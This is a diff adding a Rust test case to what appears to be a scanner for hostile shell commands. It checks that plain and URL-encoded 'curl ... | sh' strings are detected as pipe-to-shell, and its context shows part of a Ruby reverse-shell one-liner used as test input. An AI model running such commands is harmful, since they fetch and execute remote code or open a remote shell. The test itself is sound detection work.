@@ -480,6 +480,15 @@ fn what_another_reading_sees_within_a_match_is_told_once() {
 }
 
 #[test]
+fn what_another_reading_shows_behind_a_match_that_is_shorter_in_it_is_told() {
+    let first = format!("curl https://x.example/{}|sh", "%41".repeat(40));
+    let text = format!("text: {first};\nc%75rl https://y.example/b|sh\n");
+    assert_eq!(oracle(text.as_bytes()), ["pipe_to_shell"]);
+    let seen = SCANNER.with(|scanner| scan_head(scanner, text.as_bytes()));
+    assert_eq!(seen.names(), ["pipe_to_shell"; 2]);
+}
+
+#[test]
 fn what_came_by_pieces_and_would_be_longer_in_one_is_told_apart() {
     let parts = [
         r#"text: ruby -rsocket -e "f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec "#,
